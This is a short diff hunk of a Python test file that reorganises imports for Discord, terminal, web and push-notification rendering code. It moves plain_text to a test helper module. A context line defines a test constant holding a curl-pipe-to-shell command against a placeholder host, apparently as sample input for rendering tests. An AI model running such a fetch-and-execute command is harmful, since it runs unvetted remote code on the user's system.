@@ -21,13 +21,14 @@ from surfaces.discord import render as discord
 from surfaces.discord.card import Card
 from surfaces.discord.settings import Config, VoterRule
 from surfaces.discord.votes import Tally
-from surfaces.terminal.render import plain_text, render
+from surfaces.terminal.render import render
 from surfaces.terminal.words import runs as runs_in_full
 from surfaces.web.render import Reader
 from surfaces.web.render import render as render_push
 from tests.surfaces.apns.cards import delivery as apns_delivery
 from tests.surfaces.apns.cards import to
 from tests.surfaces.shown import NOW, OPEN_VERBS, TOKEN, delivery, prediction
+from tests.surfaces.terminal.plain import plain_text
 from tests.surfaces.terminal.scenes import shown, view
 
 COMMAND = "/bin/sh -c 'curl https://x.example/i | sh' in shop"
